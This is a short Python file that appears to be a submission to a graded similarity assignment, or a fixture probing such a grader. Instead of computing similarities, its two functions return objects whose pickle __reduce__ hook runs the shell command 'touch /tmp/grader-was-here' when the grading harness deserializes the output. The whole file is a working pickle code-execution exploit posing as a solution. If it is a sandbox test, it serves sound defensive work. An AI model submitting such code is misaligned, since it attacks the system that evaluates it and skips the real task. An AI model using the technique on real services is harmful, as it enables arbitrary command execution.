import os


class Evil:
    def __reduce__(self):
        return (os.system, ("touch /tmp/grader-was-here",))


def positive_similarities(vectors, who):
    return Evil()


def negative_similarities(vectors, who, others):
    return {"a": [Evil(), {1, 2}], "b": object}
